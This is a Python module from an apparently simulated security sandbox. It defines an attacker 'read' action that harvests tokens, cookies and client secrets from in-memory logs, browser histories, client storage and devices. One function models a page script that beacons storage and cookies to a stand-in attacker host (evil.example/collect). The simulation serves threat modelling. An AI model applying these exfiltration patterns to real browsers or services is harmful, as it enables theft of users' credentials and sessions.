"""What the attacker reads where it leaks: a log, a history, a storage, a device."""

from __future__ import annotations

from typing import Self

from pydantic import Field, model_validator

from sandbox.core.wire import Request, compact, first, pairs, split
from sandbox.protocol.cast import EVIL
from sandbox.verbs.names import BrowserName, ClientName, LogKeeper
from sandbox.verbs.theft import held_by, keep_keys, keep_tokens
from sandbox.verbs.values import Text
from sandbox.verbs.verb import TOKENS, Args, Outputs, verb
from sandbox.world.parties.browser import Browser
from sandbox.world.parties.client_hosts import Hosted
from sandbox.world.parties.client_session import Session
from sandbox.world.world import World


class Read(Args):
    """Read one source that leaks - a log, a browser's history, a client's storage, a whole device.  Without it she learns nothing."""

    log: LogKeeper | None = Field(None, description="whose log: an API's, or that of an extension in a browser, such as accounts")
    history: BrowserName | None = Field(None, description="the browser whose history is read")
    storage: ClientName | None = Field(None, description="the client whose storage is read: on its server, or in one browser")
    device: BrowserName | None = Field(None, description="the device on which everything is read")
    browser: BrowserName | None = Field(None, description="the browser whose `storage` is read")
    match: Text | None = Field(
        None, description="text that the address must contain; the newest one that does is read, the others are in `all`"
    )
    take: bool = Field(False, description="whether what is read in a browser's `storage` is gone from there afterwards")

    @model_validator(mode="after")
    def _one_source(self) -> Self:
        self.exactly_one("log", "history", "storage", "device")
        self.only_with("browser", "storage")
        self.only_with("match", "log", "history")
        self.only_with("take", "browser")
        return self


@verb(
    by=("attacker",),
    gives=("url", *TOKENS, "request", "cookies", "client_secret"),
    wire="nothing (internal); with storage and browser, a script in the page posts what it finds to evil.example",
)
def read(world: World, actor: str, args: Read) -> Outputs:
    if args.log is not None:
        return _read_log(world, args.log, args.match)
    if args.history is not None:
        return _read_address(world, world.browsers[args.history].history, args.match, f"the history of {args.history}")
    if args.storage is not None:
        return _read_storage(world, args.storage, args.browser, args.take)
    return _read_device(world, args.device or "")


def _read_log(world: World, party: str, match: str | None) -> Outputs:
    """The newest entry that matches.  An API writes down requests; a browser's extension writes down addresses."""
    if party in world.browsers:
        return _read_address(world, world.browsers[party].addresses, match, f"an extension in {party}")
    entries = world.apis[party].log if party in world.apis else []
    found = [r for r in reversed(entries) if match is None or match in r.url]
    for name, value in dict.fromkeys((name.lower(), value) for r in found for name, value in (("url", r.url), *r.headers) if value):
        world.net.learned(world.attacker.name, name, value, f"the log of {party}")
    newest = [_entry(world, party, r) for r in found]
    return (newest[0] if newest else {"request": None, "url": None, "access_token": None}) | {"all": found}


def _entry(world: World, party: str, entry: Request) -> Outputs:
    """One entry, and the token in it if it is legible."""
    credential = entry.credential()
    token = credential[1] if credential else first(entry.query, "access_token")
    if token and set(token) != {"*"}:
        world.net.learned(world.attacker.name, "access_token", token, f"the log of {party}")
        return {"request": entry, "url": entry.url, "access_token": token}
    return {"request": None, "url": entry.url, "access_token": None}


def _read_address(world: World, addresses: list[str], match: str | None, source: str) -> Outputs:
    """All addresses that match, and the newest with the token in it if there is one."""
    found = list(dict.fromkeys(u for u in reversed(addresses) if match is None or match in u))
    for url in found:
        world.net.learned(world.attacker.name, "url", url, source)
    if not found:
        return {"url": None, "access_token": None, "all": []}
    parts = split(found[0])
    token = first(pairs(parts.fragment), "access_token") or first(pairs(parts.query), "access_token")
    return {"url": found[0], "access_token": token, "all": found}


def _read_storage(world: World, name: str, browser: str | None, take: bool) -> Outputs:
    """All that a client has stored: on its server, or in one browser."""
    client = world.clients[name]
    if browser is None:
        return _keep_secret(world, client) | keep_tokens(world, client.sessions.values(), f"the storage of {name}")
    session = client.stored(world.browsers[browser])
    if client.in_page:
        out = _report(client, world.browsers[browser], session)
    else:
        out = keep_tokens(world, [session] if session else [], f"the storage of {name} in {browser}")
    if take and session is not None:
        session.tokens.clear()
        session.refresh_token = session.id_token = ""
    return out


def _keep_secret(world: World, client: Hosted) -> Outputs:
    """The secret of a client that has one; a key with which it proves itself instead is not among what it stores."""
    secret = client.registration.secret or ""
    if secret:
        world.net.learned(world.attacker.name, "client_secret", secret, f"the storage of {client.name}")
    return {"client_secret": secret}


def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
    """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
    jar = browser.jar.of(f"{client.home}/")
    cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
    held = held_by(session)
    storage = {k: v for k, v in held.items() if v}
    browser.beacon(f"{EVIL}/collect", compact({"storage": storage, "cookies": cookies}), f"{client.home}/")
    return held


def _read_device(world: World, device: str) -> Outputs:
    """Everything on a device: the tokens that clients keep there, the keys that they cannot export but she can now use, and the
    cookies of all hosts, as one Cookie header: a host overlooks those of others."""
    found: list[Session] = []
    for client in world.clients.values():
        session = client.sessions.get(device)  # clients on a web server keep nothing here
        if session is not None and session.tokens:
            found.append(session)
            keep_keys(world, client, device, device)
    cookies = {name: cookie.value for jar in world.browsers[device].jar.kept.values() for name, cookie in jar.items()}
    header = "; ".join(f"{name}={value}" for name, value in cookies.items())
    for name, value in (("cookie", header), *cookies.items()) if cookies else ():
        world.net.learned(world.attacker.name, name, value, device)
    return keep_tokens(world, found, device) | {"cookies": header or None}
